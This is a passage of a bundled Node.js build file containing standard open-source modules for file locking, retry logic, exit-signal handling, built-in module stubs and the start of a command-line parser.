  if (typeof process !== 'undefined' && process.platform) {
    return process.platform === 'win32';
  }

  return false;
};

exports.removeBackslashes = str => {
  return str.replace(REGEX_REMOVE_BACKSLASH, match => {
    return match === '\\' ? '' : match;
  });
};

exports.escapeLast = (input, char, lastIdx) => {
  const idx = input.lastIndexOf(char, lastIdx);
  if (idx === -1) return input;
  if (input[idx - 1] === '\\') return exports.escapeLast(input, char, idx - 1);
  return `${input.slice(0, idx)}\\${input.slice(idx)}`;
};

exports.removePrefix = (input, state = {}) => {
  let output = input;
  if (output.startsWith('./')) {
    output = output.slice(2);
    state.prefix = './';
  }
  return output;
};

exports.wrapOutput = (input, state = {}, options = {}) => {
  const prepend = options.contains ? '' : '^';
  const append = options.contains ? '' : '$';

  let output = `${prepend}(?:${input})${append}`;
  if (state.negated === true) {
    output = `(?:^(?!${output}).*$)`;
  }
  return output;
};

exports.basename = (path, { windows } = {}) => {
  const segs = path.split(windows ? /[\\/]/ : '/');
  const last = segs[segs.length - 1];

  if (last === '') {
    return segs[segs.length - 2];
  }

  return last;
};


/***/ }),

/***/ 3648:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const lockfile = __nccwpck_require__(743);
const { toPromise, toSync, toSyncOptions } = __nccwpck_require__(3271);

async function lock(file, options) {
    const release = await toPromise(lockfile.lock)(file, options);

    return toPromise(release);
}

function lockSync(file, options) {
    const release = toSync(lockfile.lock)(file, toSyncOptions(options));

    return toSync(release);
}

function unlock(file, options) {
    return toPromise(lockfile.unlock)(file, options);
}

function unlockSync(file, options) {
    return toSync(lockfile.unlock)(file, toSyncOptions(options));
}

function check(file, options) {
    return toPromise(lockfile.check)(file, options);
}

function checkSync(file, options) {
    return toSync(lockfile.check)(file, toSyncOptions(options));
}

module.exports = lock;
module.exports.lock = lock;
module.exports.unlock = unlock;
module.exports.lockSync = lockSync;
module.exports.unlockSync = unlockSync;
module.exports.check = check;
module.exports.checkSync = checkSync;


/***/ }),

/***/ 3271:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const fs = __nccwpck_require__(5744);

function createSyncFs(fs) {
    const methods = ['mkdir', 'realpath', 'stat', 'rmdir', 'utimes'];
    const newFs = { ...fs };

    methods.forEach((method) => {
        newFs[method] = (...args) => {
            const callback = args.pop();
            let ret;

            try {
                ret = fs[`${method}Sync`](...args);
            } catch (err) {
                return callback(err);
            }

            callback(null, ret);
        };
    });

    return newFs;
}

// ----------------------------------------------------------

function toPromise(method) {
    return (...args) => new Promise((resolve, reject) => {
        args.push((err, result) => {
            if (err) {
                reject(err);
            } else {
                resolve(result);
            }
        });

        method(...args);
    });
}

function toSync(method) {
    return (...args) => {
        let err;
        let result;

        args.push((_err, _result) => {
            err = _err;
            result = _result;
        });

        method(...args);

        if (err) {
            throw err;
        }

        return result;
    };
}

function toSyncOptions(options) {
    // Shallow clone options because we are oging to mutate them
    options = { ...options };

    // Transform fs to use the sync methods instead
    options.fs = createSyncFs(options.fs || fs);

    // Retries are not allowed because it requires the flow to be sync
    if (
        (typeof options.retries === 'number' && options.retries > 0) ||
        (options.retries && typeof options.retries.retries === 'number' && options.retries.retries > 0)
    ) {
        throw Object.assign(new Error('Cannot use retries with the sync api'), { code: 'ESYNC' });
    }

    return options;
}

module.exports = {
    toPromise,
    toSync,
    toSyncOptions,
};


/***/ }),

/***/ 743:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const path = __nccwpck_require__(6928);
const fs = __nccwpck_require__(5744);
const retry = __nccwpck_require__(5546);
const onExit = __nccwpck_require__(6627);
const mtimePrecision = __nccwpck_require__(4747);

const locks = {};

function getLockFile(file, options) {
    return options.lockfilePath || `${file}.lock`;
}

function resolveCanonicalPath(file, options, callback) {
    if (!options.realpath) {
        return callback(null, path.resolve(file));
    }

    // Use realpath to resolve symlinks
    // It also resolves relative paths
    options.fs.realpath(file, callback);
}

function acquireLock(file, options, callback) {
    const lockfilePath = getLockFile(file, options);

    // Use mkdir to create the lockfile (atomic operation)
    options.fs.mkdir(lockfilePath, (err) => {
        if (!err) {
            // At this point, we acquired the lock!
            // Probe the mtime precision
            return mtimePrecision.probe(lockfilePath, options.fs, (err, mtime, mtimePrecision) => {
                // If it failed, try to remove the lock..
                /* istanbul ignore if */
                if (err) {
                    options.fs.rmdir(lockfilePath, () => {});

                    return callback(err);
                }

                callback(null, mtime, mtimePrecision);
            });
        }

        // If error is not EEXIST then some other error occurred while locking
        if (err.code !== 'EEXIST') {
            return callback(err);
        }

        // Otherwise, check if lock is stale by analyzing the file mtime
        if (options.stale <= 0) {
            return callback(Object.assign(new Error('Lock file is already being held'), { code: 'ELOCKED', file }));
        }

        options.fs.stat(lockfilePath, (err, stat) => {
            if (err) {
                // Retry if the lockfile has been removed (meanwhile)
                // Skip stale check to avoid recursiveness
                if (err.code === 'ENOENT') {
                    return acquireLock(file, { ...options, stale: 0 }, callback);
                }

                return callback(err);
            }

            if (!isLockStale(stat, options)) {
                return callback(Object.assign(new Error('Lock file is already being held'), { code: 'ELOCKED', file }));
            }

            // If it's stale, remove it and try again!
            // Skip stale check to avoid recursiveness
            removeLock(file, options, (err) => {
                if (err) {
                    return callback(err);
                }

                acquireLock(file, { ...options, stale: 0 }, callback);
            });
        });
    });
}

function isLockStale(stat, options) {
    return stat.mtime.getTime() < Date.now() - options.stale;
}

function removeLock(file, options, callback) {
    // Remove lockfile, ignoring ENOENT errors
    options.fs.rmdir(getLockFile(file, options), (err) => {
        if (err && err.code !== 'ENOENT') {
            return callback(err);
        }

        callback();
    });
}

function updateLock(file, options) {
    const lock = locks[file];

    // Just for safety, should never happen
    /* istanbul ignore if */
    if (lock.updateTimeout) {
        return;
    }

    lock.updateDelay = lock.updateDelay || options.update;
    lock.updateTimeout = setTimeout(() => {
        lock.updateTimeout = null;

        // Stat the file to check if mtime is still ours
        // If it is, we can still recover from a system sleep or a busy event loop
        options.fs.stat(lock.lockfilePath, (err, stat) => {
            const isOverThreshold = lock.lastUpdate + options.stale < Date.now();

            // If it failed to update the lockfile, keep trying unless
            // the lockfile was deleted or we are over the threshold
            if (err) {
                if (err.code === 'ENOENT' || isOverThreshold) {
                    return setLockAsCompromised(file, lock, Object.assign(err, { code: 'ECOMPROMISED' }));
                }

                lock.updateDelay = 1000;

                return updateLock(file, options);
            }

            const isMtimeOurs = lock.mtime.getTime() === stat.mtime.getTime();

            if (!isMtimeOurs) {
                return setLockAsCompromised(
                    file,
                    lock,
                    Object.assign(
                        new Error('Unable to update lock within the stale threshold'),
                        { code: 'ECOMPROMISED' }
                    ));
            }

            const mtime = mtimePrecision.getMtime(lock.mtimePrecision);

            options.fs.utimes(lock.lockfilePath, mtime, mtime, (err) => {
                const isOverThreshold = lock.lastUpdate + options.stale < Date.now();

                // Ignore if the lock was released
                if (lock.released) {
                    return;
                }

                // If it failed to update the lockfile, keep trying unless
                // the lockfile was deleted or we are over the threshold
                if (err) {
                    if (err.code === 'ENOENT' || isOverThreshold) {
                        return setLockAsCompromised(file, lock, Object.assign(err, { code: 'ECOMPROMISED' }));
                    }

                    lock.updateDelay = 1000;

                    return updateLock(file, options);
                }

                // All ok, keep updating..
                lock.mtime = mtime;
                lock.lastUpdate = Date.now();
                lock.updateDelay = null;
                updateLock(file, options);
            });
        });
    }, lock.updateDelay);

    // Unref the timer so that the nodejs process can exit freely
    // This is safe because all acquired locks will be automatically released
    // on process exit

    // We first check that `lock.updateTimeout.unref` exists because some users
    // may be using this module outside of NodeJS (e.g., in an electron app),
    // and in those cases `setTimeout` return an integer.
    /* istanbul ignore else */
    if (lock.updateTimeout.unref) {
        lock.updateTimeout.unref();
    }
}

function setLockAsCompromised(file, lock, err) {
    // Signal the lock has been released
    lock.released = true;

    // Cancel lock mtime update
    // Just for safety, at this point updateTimeout should be null
    /* istanbul ignore if */
    if (lock.updateTimeout) {
        clearTimeout(lock.updateTimeout);
    }

    if (locks[file] === lock) {
        delete locks[file];
    }

    lock.options.onCompromised(err);
}

// ----------------------------------------------------------

function lock(file, options, callback) {
    /* istanbul ignore next */
    options = {
        stale: 10000,
        update: null,
        realpath: true,
        retries: 0,
        fs,
        onCompromised: (err) => { throw err; },
        ...options,
    };

    options.retries = options.retries || 0;
    options.retries = typeof options.retries === 'number' ? { retries: options.retries } : options.retries;
    options.stale = Math.max(options.stale || 0, 2000);
    options.update = options.update == null ? options.stale / 2 : options.update || 0;
    options.update = Math.max(Math.min(options.update, options.stale / 2), 1000);

    // Resolve to a canonical file path
    resolveCanonicalPath(file, options, (err, file) => {
        if (err) {
            return callback(err);
        }

        // Attempt to acquire the lock
        const operation = retry.operation(options.retries);

        operation.attempt(() => {
            acquireLock(file, options, (err, mtime, mtimePrecision) => {
                if (operation.retry(err)) {
                    return;
                }

                if (err) {
                    return callback(operation.mainError());
                }

                // We now own the lock
                const lock = locks[file] = {
                    lockfilePath: getLockFile(file, options),
                    mtime,
                    mtimePrecision,
                    options,
                    lastUpdate: Date.now(),
                };

                // We must keep the lock fresh to avoid staleness
                updateLock(file, options);

                callback(null, (releasedCallback) => {
                    if (lock.released) {
                        return releasedCallback &&
                            releasedCallback(Object.assign(new Error('Lock is already released'), { code: 'ERELEASED' }));
                    }

                    // Not necessary to use realpath twice when unlocking
                    unlock(file, { ...options, realpath: false }, releasedCallback);
                });
            });
        });
    });
}

function unlock(file, options, callback) {
    options = {
        fs,
        realpath: true,
        ...options,
    };

    // Resolve to a canonical file path
    resolveCanonicalPath(file, options, (err, file) => {
        if (err) {
            return callback(err);
        }

        // Skip if the lock is not acquired
        const lock = locks[file];

        if (!lock) {
            return callback(Object.assign(new Error('Lock is not acquired/owned by you'), { code: 'ENOTACQUIRED' }));
        }

        lock.updateTimeout && clearTimeout(lock.updateTimeout); // Cancel lock mtime update
        lock.released = true; // Signal the lock has been released
        delete locks[file]; // Delete from locks

        removeLock(file, options, callback);
    });
}

function check(file, options, callback) {
    options = {
        stale: 10000,
        realpath: true,
        fs,
        ...options,
    };

    options.stale = Math.max(options.stale || 0, 2000);

    // Resolve to a canonical file path
    resolveCanonicalPath(file, options, (err, file) => {
        if (err) {
            return callback(err);
        }

        // Check if lockfile exists
        options.fs.stat(getLockFile(file, options), (err, stat) => {
            if (err) {
                // If does not exist, file is not locked. Otherwise, callback with error
                return err.code === 'ENOENT' ? callback(null, false) : callback(err);
            }

            // Otherwise, check if lock is stale by analyzing the file mtime
            return callback(null, !isLockStale(stat, options));
        });
    });
}

function getLocks() {
    return locks;
}

// Remove acquired locks on exit
/* istanbul ignore next */
onExit(() => {
    for (const file in locks) {
        const options = locks[file].options;

        try { options.fs.rmdirSync(getLockFile(file, options)); } catch (e) { /* Empty */ }
    }
});

module.exports.lock = lock;
module.exports.unlock = unlock;
module.exports.check = check;
module.exports.getLocks = getLocks;


/***/ }),

/***/ 4747:
/***/ ((module) => {



const cacheSymbol = Symbol();

function probe(file, fs, callback) {
    const cachedPrecision = fs[cacheSymbol];

    if (cachedPrecision) {
        return fs.stat(file, (err, stat) => {
            /* istanbul ignore if */
            if (err) {
                return callback(err);
            }

            callback(null, stat.mtime, cachedPrecision);
        });
    }

    // Set mtime by ceiling Date.now() to seconds + 5ms so that it's "not on the second"
    const mtime = new Date((Math.ceil(Date.now() / 1000) * 1000) + 5);

    fs.utimes(file, mtime, mtime, (err) => {
        /* istanbul ignore if */
        if (err) {
            return callback(err);
        }

        fs.stat(file, (err, stat) => {
            /* istanbul ignore if */
            if (err) {
                return callback(err);
            }

            const precision = stat.mtime.getTime() % 1000 === 0 ? 's' : 'ms';

            // Cache the precision in a non-enumerable way
            Object.defineProperty(fs, cacheSymbol, { value: precision });

            callback(null, stat.mtime, precision);
        });
    });
}

function getMtime(precision) {
    let now = Date.now();

    if (precision === 's') {
        now = Math.ceil(now / 1000) * 1000;
    }

    return new Date(now);
}

module.exports.probe = probe;
module.exports.getMtime = getMtime;


/***/ }),

/***/ 5546:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {

module.exports = __nccwpck_require__(7084);

/***/ }),

/***/ 7084:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

var RetryOperation = __nccwpck_require__(9538);

exports.operation = function(options) {
  var timeouts = exports.timeouts(options);
  return new RetryOperation(timeouts, {
      forever: options && options.forever,
      unref: options && options.unref,
      maxRetryTime: options && options.maxRetryTime
  });
};

exports.timeouts = function(options) {
  if (options instanceof Array) {
    return [].concat(options);
  }

  var opts = {
    retries: 10,
    factor: 2,
    minTimeout: 1 * 1000,
    maxTimeout: Infinity,
    randomize: false
  };
  for (var key in options) {
    opts[key] = options[key];
  }

  if (opts.minTimeout > opts.maxTimeout) {
    throw new Error('minTimeout is greater than maxTimeout');
  }

  var timeouts = [];
  for (var i = 0; i < opts.retries; i++) {
    timeouts.push(this.createTimeout(i, opts));
  }

  if (options && options.forever && !timeouts.length) {
    timeouts.push(this.createTimeout(i, opts));
  }

  // sort the array numerically ascending
  timeouts.sort(function(a,b) {
    return a - b;
  });

  return timeouts;
};

exports.createTimeout = function(attempt, opts) {
  var random = (opts.randomize)
    ? (Math.random() + 1)
    : 1;

  var timeout = Math.round(random * opts.minTimeout * Math.pow(opts.factor, attempt));
  timeout = Math.min(timeout, opts.maxTimeout);

  return timeout;
};

exports.wrap = function(obj, options, methods) {
  if (options instanceof Array) {
    methods = options;
    options = null;
  }

  if (!methods) {
    methods = [];
    for (var key in obj) {
      if (typeof obj[key] === 'function') {
        methods.push(key);
      }
    }
  }

  for (var i = 0; i < methods.length; i++) {
    var method   = methods[i];
    var original = obj[method];

    obj[method] = function retryWrapper(original) {
      var op       = exports.operation(options);
      var args     = Array.prototype.slice.call(arguments, 1);
      var callback = args.pop();

      args.push(function(err) {
        if (op.retry(err)) {
          return;
        }
        if (err) {
          arguments[0] = op.mainError();
        }
        callback.apply(this, arguments);
      });

      op.attempt(function() {
        original.apply(obj, args);
      });
    }.bind(obj, original);
    obj[method].options = options;
  }
};


/***/ }),

/***/ 9538:
/***/ ((module) => {

function RetryOperation(timeouts, options) {
  // Compatibility for the old (timeouts, retryForever) signature
  if (typeof options === 'boolean') {
    options = { forever: options };
  }

  this._originalTimeouts = JSON.parse(JSON.stringify(timeouts));
  this._timeouts = timeouts;
  this._options = options || {};
  this._maxRetryTime = options && options.maxRetryTime || Infinity;
  this._fn = null;
  this._errors = [];
  this._attempts = 1;
  this._operationTimeout = null;
  this._operationTimeoutCb = null;
  this._timeout = null;
  this._operationStart = null;

  if (this._options.forever) {
    this._cachedTimeouts = this._timeouts.slice(0);
  }
}
module.exports = RetryOperation;

RetryOperation.prototype.reset = function() {
  this._attempts = 1;
  this._timeouts = this._originalTimeouts;
}

RetryOperation.prototype.stop = function() {
  if (this._timeout) {
    clearTimeout(this._timeout);
  }

  this._timeouts       = [];
  this._cachedTimeouts = null;
};

RetryOperation.prototype.retry = function(err) {
  if (this._timeout) {
    clearTimeout(this._timeout);
  }

  if (!err) {
    return false;
  }
  var currentTime = new Date().getTime();
  if (err && currentTime - this._operationStart >= this._maxRetryTime) {
    this._errors.unshift(new Error('RetryOperation timeout occurred'));
    return false;
  }

  this._errors.push(err);

  var timeout = this._timeouts.shift();
  if (timeout === undefined) {
    if (this._cachedTimeouts) {
      // retry forever, only keep last error
      this._errors.splice(this._errors.length - 1, this._errors.length);
      this._timeouts = this._cachedTimeouts.slice(0);
      timeout = this._timeouts.shift();
    } else {
      return false;
    }
  }

  var self = this;
  var timer = setTimeout(function() {
    self._attempts++;

    if (self._operationTimeoutCb) {
      self._timeout = setTimeout(function() {
        self._operationTimeoutCb(self._attempts);
      }, self._operationTimeout);

      if (self._options.unref) {
          self._timeout.unref();
      }
    }

    self._fn(self._attempts);
  }, timeout);

  if (this._options.unref) {
      timer.unref();
  }

  return true;
};

RetryOperation.prototype.attempt = function(fn, timeoutOps) {
  this._fn = fn;

  if (timeoutOps) {
    if (timeoutOps.timeout) {
      this._operationTimeout = timeoutOps.timeout;
    }
    if (timeoutOps.cb) {
      this._operationTimeoutCb = timeoutOps.cb;
    }
  }

  var self = this;
  if (this._operationTimeoutCb) {
    this._timeout = setTimeout(function() {
      self._operationTimeoutCb();
    }, self._operationTimeout);
  }

  this._operationStart = new Date().getTime();

  this._fn(this._attempts);
};

RetryOperation.prototype.try = function(fn) {
  console.log('Using RetryOperation.try() is deprecated');
  this.attempt(fn);
};

RetryOperation.prototype.start = function(fn) {
  console.log('Using RetryOperation.start() is deprecated');
  this.attempt(fn);
};

RetryOperation.prototype.start = RetryOperation.prototype.try;

RetryOperation.prototype.errors = function() {
  return this._errors;
};

RetryOperation.prototype.attempts = function() {
  return this._attempts;
};

RetryOperation.prototype.mainError = function() {
  if (this._errors.length === 0) {
    return null;
  }

  var counts = {};
  var mainError = null;
  var mainErrorCount = 0;

  for (var i = 0; i < this._errors.length; i++) {
    var error = this._errors[i];
    var message = error.message;
    var count = (counts[message] || 0) + 1;

    counts[message] = count;

    if (count >= mainErrorCount) {
      mainError = error;
      mainErrorCount = count;
    }
  }

  return mainError;
};


/***/ }),

/***/ 6627:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {

// Note: since nyc uses this module to output coverage, any lines
// that are in the direct sync flow of nyc's outputCoverage are
// ignored, since we can never get coverage for them.
// grab a reference to node's real process object right away
var process = global.process

const processOk = function (process) {
  return process &&
    typeof process === 'object' &&
    typeof process.removeListener === 'function' &&
    typeof process.emit === 'function' &&
    typeof process.reallyExit === 'function' &&
    typeof process.listeners === 'function' &&
    typeof process.kill === 'function' &&
    typeof process.pid === 'number' &&
    typeof process.on === 'function'
}

// some kind of non-node environment, just no-op
/* istanbul ignore if */
if (!processOk(process)) {
  module.exports = function () {
    return function () {}
  }
} else {
  var assert = __nccwpck_require__(2613)
  var signals = __nccwpck_require__(1430)
  var isWin = /^win/i.test(process.platform)

  var EE = __nccwpck_require__(4434)
  /* istanbul ignore if */
  if (typeof EE !== 'function') {
    EE = EE.EventEmitter
  }

  var emitter
  if (process.__signal_exit_emitter__) {
    emitter = process.__signal_exit_emitter__
  } else {
    emitter = process.__signal_exit_emitter__ = new EE()
    emitter.count = 0
    emitter.emitted = {}
  }

  // Because this emitter is a global, we have to check to see if a
  // previous version of this library failed to enable infinite listeners.
  // I know what you're about to say.  But literally everything about
  // signal-exit is a compromise with evil.  Get used to it.
  if (!emitter.infinite) {
    emitter.setMaxListeners(Infinity)
    emitter.infinite = true
  }

  module.exports = function (cb, opts) {
    /* istanbul ignore if */
    if (!processOk(global.process)) {
      return function () {}
    }
    assert.equal(typeof cb, 'function', 'a callback must be provided for exit handler')

    if (loaded === false) {
      load()
    }

    var ev = 'exit'
    if (opts && opts.alwaysLast) {
      ev = 'afterexit'
    }

    var remove = function () {
      emitter.removeListener(ev, cb)
      if (emitter.listeners('exit').length === 0 &&
          emitter.listeners('afterexit').length === 0) {
        unload()
      }
    }
    emitter.on(ev, cb)

    return remove
  }

  var unload = function unload () {
    if (!loaded || !processOk(global.process)) {
      return
    }
    loaded = false

    signals.forEach(function (sig) {
      try {
        process.removeListener(sig, sigListeners[sig])
      } catch (er) {}
    })
    process.emit = originalProcessEmit
    process.reallyExit = originalProcessReallyExit
    emitter.count -= 1
  }
  module.exports.unload = unload

  var emit = function emit (event, code, signal) {
    /* istanbul ignore if */
    if (emitter.emitted[event]) {
      return
    }
    emitter.emitted[event] = true
    emitter.emit(event, code, signal)
  }

  // { <signal>: <listener fn>, ... }
  var sigListeners = {}
  signals.forEach(function (sig) {
    sigListeners[sig] = function listener () {
      /* istanbul ignore if */
      if (!processOk(global.process)) {
        return
      }
      // If there are no other listeners, an exit is coming!
      // Simplest way: remove us and then re-send the signal.
      // We know that this will kill the process, so we can
      // safely emit now.
      var listeners = process.listeners(sig)
      if (listeners.length === emitter.count) {
        unload()
        emit('exit', null, sig)
        /* istanbul ignore next */
        emit('afterexit', null, sig)
        /* istanbul ignore next */
        if (isWin && sig === 'SIGHUP') {
          // "SIGHUP" throws an `ENOSYS` error on Windows,
          // so use a supported signal instead
          sig = 'SIGINT'
        }
        /* istanbul ignore next */
        process.kill(process.pid, sig)
      }
    }
  })

  module.exports.signals = function () {
    return signals
  }

  var loaded = false

  var load = function load () {
    if (loaded || !processOk(global.process)) {
      return
    }
    loaded = true

    // This is the number of onSignalExit's that are in play.
    // It's important so that we can count the correct number of
    // listeners on signals, and don't wait for the other one to
    // handle it instead of us.
    emitter.count += 1

    signals = signals.filter(function (sig) {
      try {
        process.on(sig, sigListeners[sig])
        return true
      } catch (er) {
        return false
      }
    })

    process.emit = processEmit
    process.reallyExit = processReallyExit
  }
  module.exports.load = load

  var originalProcessReallyExit = process.reallyExit
  var processReallyExit = function processReallyExit (code) {
    /* istanbul ignore if */
    if (!processOk(global.process)) {
      return
    }
    process.exitCode = code || /* istanbul ignore next */ 0
    emit('exit', process.exitCode, null)
    /* istanbul ignore next */
    emit('afterexit', process.exitCode, null)
    /* istanbul ignore next */
    originalProcessReallyExit.call(process, process.exitCode)
  }

  var originalProcessEmit = process.emit
  var processEmit = function processEmit (ev, arg) {
    if (ev === 'exit' && processOk(global.process)) {
      /* istanbul ignore else */
      if (arg !== undefined) {
        process.exitCode = arg
      }
      var ret = originalProcessEmit.apply(this, arguments)
      /* istanbul ignore next */
      emit('exit', process.exitCode, null)
      /* istanbul ignore next */
      emit('afterexit', process.exitCode, null)
      /* istanbul ignore next */
      return ret
    } else {
      return originalProcessEmit.apply(this, arguments)
    }
  }
}


/***/ }),

/***/ 1430:
/***/ ((module) => {

// This is not the set of all possible signals.
//
// It IS, however, the set of all signals that trigger
// an exit on either Linux or BSD systems.  Linux is a
// superset of the signal names supported on BSD, and
// the unknown signals just fail to register, so we can
// catch that easily enough.
//
// Don't bother with SIGKILL.  It's uncatchable, which
// means that we can't fire any callbacks anyway.
//
// If a user does happen to register a handler on a non-
// fatal signal like SIGWINCH or something, and then
// exit, it'll end up firing `process.emit('exit')`, so
// the handler will be fired anyway.
//
// SIGBUS, SIGFPE, SIGSEGV and SIGILL, when not raised
// artificially, inherently leave the process in a
// state from which it is not safe to try and enter JS
// listeners.
module.exports = [
  'SIGABRT',
  'SIGALRM',
  'SIGHUP',
  'SIGINT',
  'SIGTERM'
]

if (process.platform !== 'win32') {
  module.exports.push(
    'SIGVTALRM',
    'SIGXCPU',
    'SIGXFSZ',
    'SIGUSR2',
    'SIGTRAP',
    'SIGSYS',
    'SIGQUIT',
    'SIGIOT'
    // should detect profiler and enable/disable accordingly.
    // see #21
    // 'SIGPROF'
  )
}

if (process.platform === 'linux') {
  module.exports.push(
    'SIGIO',
    'SIGPOLL',
    'SIGPWR',
    'SIGSTKFLT',
    'SIGUNUSED'
  )
}


/***/ }),

/***/ 2613:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("assert");

/***/ }),

/***/ 181:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("buffer");

/***/ }),

/***/ 5317:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("child_process");

/***/ }),

/***/ 9140:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("constants");

/***/ }),

/***/ 6982:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("crypto");

/***/ }),

/***/ 4434:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("events");

/***/ }),

/***/ 9896:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs");

/***/ }),

/***/ 8611:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("http");

/***/ }),

/***/ 5692:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("https");

/***/ }),

/***/ 9278:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("net");

/***/ }),

/***/ 4589:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:assert");

/***/ }),

/***/ 6698:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:async_hooks");

/***/ }),

/***/ 4573:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:buffer");

/***/ }),

/***/ 1421:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");

/***/ }),

/***/ 7540:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:console");

/***/ }),

/***/ 7598:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");

/***/ }),

/***/ 3053:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:diagnostics_channel");

/***/ }),

/***/ 610:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:dns");

/***/ }),

/***/ 8474:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events");

/***/ }),

/***/ 3024:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");

/***/ }),

/***/ 7067:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:http");

/***/ }),

/***/ 2467:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:http2");

/***/ }),

/***/ 4708:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:https");

/***/ }),

/***/ 8995:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:module");

/***/ }),

/***/ 7030:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:net");

/***/ }),

/***/ 8161:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");

/***/ }),

/***/ 6760:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");

/***/ }),

/***/ 643:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:perf_hooks");

/***/ }),

/***/ 1708:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:process");

/***/ }),

/***/ 1792:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:querystring");

/***/ }),

/***/ 7075:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream");

/***/ }),

/***/ 1692:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:tls");

/***/ }),

/***/ 3136:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:url");

/***/ }),

/***/ 7975:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util");

/***/ }),

/***/ 3429:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util/types");

/***/ }),

/***/ 5919:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:worker_threads");

/***/ }),

/***/ 8522:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:zlib");

/***/ }),

/***/ 857:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("os");

/***/ }),

/***/ 6928:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("path");

/***/ }),

/***/ 2203:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("stream");

/***/ }),

/***/ 3193:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("string_decoder");

/***/ }),

/***/ 3557:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("timers");

/***/ }),

/***/ 4756:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tls");

/***/ }),

/***/ 2018:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tty");

/***/ }),

/***/ 7016:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("url");

/***/ }),

/***/ 9023:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("util");

/***/ }),

/***/ 8909:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { Argument } = __nccwpck_require__(9154);
const { Command } = __nccwpck_require__(4348);
const { CommanderError, InvalidArgumentError } = __nccwpck_require__(1135);
const { Help } = __nccwpck_require__(9754);
const { Option } = __nccwpck_require__(5240);

exports.DM = new Command();

exports.gu = (name) => new Command(name);
exports.Ww = (flags, description) => new Option(flags, description);
exports.er = (name, description) => new Argument(name, description);

/**
 * Expose classes
 */

exports.uB = Command;
exports.c$ = Option;
exports.ef = Argument;
exports._V = Help;

exports.b7 = CommanderError;
exports.Di = InvalidArgumentError;
exports.a2 = InvalidArgumentError; // Deprecated


/***/ }),

/***/ 9154:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { InvalidArgumentError } = __nccwpck_require__(1135);

class Argument {
  /**
   * Initialize a new command argument with the given name and description.
   * The default is that the argument is required, and you can explicitly
   * indicate this with <> around the name. Put [] around the name for an optional argument.
   *
